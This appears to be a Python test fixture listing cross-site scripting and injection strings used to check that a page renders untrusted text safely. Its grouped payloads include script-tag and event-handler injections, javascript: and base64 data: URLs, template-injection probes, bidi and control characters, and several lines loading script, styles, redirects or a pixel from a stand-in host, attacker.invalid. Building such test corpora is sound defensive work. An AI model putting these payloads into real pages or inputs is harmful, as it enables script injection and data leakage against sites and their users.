"""Texts that would run, fetch, or change the page, wherever one of them is not taken as text."""

from __future__ import annotations

SCRIPTS = (
    "<script>window.injected = 101</script>",
    "</script><script>window.injected = 102</script>",
    '<ScRiPt type="module">window.injected = 103</sCrIpT>',
    "<script src=https://attacker.invalid/payload.js></script>",
    "<scr<script>ipt>window.injected = 104</scr</script>ipt>",
    "<script\n>window.injected = 105</script\n>",
    "</title><script>window.injected = 106</script>",
    "</textarea></noscript><script>window.injected = 107</script>",
    '<template shadowrootmode="open"><script>window.injected = 108</script></template>',
)
HANDLERS = (
    '<img src="missing.png" onerror="window.injected = 201">',
    "<img/src=missing/onerror=window.injected=202>",
    '" onmouseover="window.injected = 203" data-rest="',
    "' autofocus onfocus='window.injected = 204",
    "<body onload=window.injected=205>",
    "<details open ontoggle=window.injected=206><summary>dose</summary></details>",
    '<input autofocus onfocus="window.injected = 207">',
    '<video><source onerror="window.injected = 208"></video>',
    '<div style="animation: shake 1s" onanimationstart="window.injected = 209">',
    '<marquee onstart="window.injected = 210">fever</marquee>',
)
DRAWINGS = (
    '<svg onload="window.injected = 301"></svg>',
    "<svg><script>window.injected = 302</script></svg>",
    '<svg><animate onbegin="window.injected = 303" attributeName="x" dur="1s"/></svg>',
    '<svg><use href="https://attacker.invalid/shapes.svg#a"/></svg>',
    "<math><mtext><script>window.injected = 304</script></mtext></math>",
)
ADDRESSES = (
    '<a href="javascript:window.injected = 401">take two tablets</a>',
    '<a href="java\tscript:window.injected = 402">rest</a>',
    '<iframe src="javascript:parent.injected = 403"></iframe>',
    '<iframe srcdoc="<script>parent.injected = 404</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaW5qZWN0ZWQ9NDA1PC9zY3JpcHQ+"></object>',
    '<embed src="data:image/svg+xml,<svg onload=parent.injected=406>">',
    '<link rel="stylesheet" href="https://attacker.invalid/style.css">',
    '<base href="https://attacker.invalid/">',
    '<meta http-equiv="refresh" content="0; url=https://attacker.invalid/">',
    '<form action="https://attacker.invalid/"><button>send</button></form>',
)
STYLES = (
    "</style><script>window.injected = 501</script>",
    '<style>body { background: url("https://attacker.invalid/pixel") }</style>',
    '" style="position: fixed; inset: 0; background: red',
)
TEMPLATES = (
    "{{ 7 * 7 }} {{ config }} {{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}{# gone #}",
    "${window.injected = 601} <%= window.injected = 602 %>",
)
DATA = (
    '"}]}</script><script>window.injected = 701</script>{"a": [{"b": "',
    "\\u003cscript\\u003ewindow.injected = 702\\u003c/script\\u003e",
    "<!--<script>--><b>comment</b><!-- --!><i>end</i>",
    "<![CDATA[<script>window.injected = 703</script>]]>",
    "&lt;script&gt;window.injected = 704&lt;/script&gt; &amp; &#60;b&#62; &nbsp;",
)
CHARACTERS = (
    "<scr\x00ipt>window.injected = 801</scr\x00ipt>\x1b[31m",
    "line\u2028separator\u2029'; window.injected = 802; //",
    "\u202emg 05 esod\u202c \u2066<b>\u2069",
)
MARKDOWN = (
    "# heading\n\n[link](javascript:window.injected=901) ![pixel](https://attacker.invalid/p.png) <b>bold</b>",
    "`code` **strong** <https://attacker.invalid/> ```\n<script>window.injected = 902</script>\n```",
)
INJECTIONS = (
    *SCRIPTS,
    *HANDLERS,
    *DRAWINGS,
    *ADDRESSES,
    *STYLES,
    *TEMPLATES,
    *DATA,
    *CHARACTERS,
    *MARKDOWN,
)
# A few that keep every character where white space is mended or Markdown is read.
SAMPLE = (*SCRIPTS[:2], f'">{HANDLERS[0]}', "<!-- <b>bold</b> & {{ 7 * 7 }} -->")


def as_shown(text: str) -> str:
    """The text as a page shows it: HTML has no NUL, so control characters stand there as their pictures."""
    return text.replace("\x00", "\u2400").replace("\x1b", "\u241b")
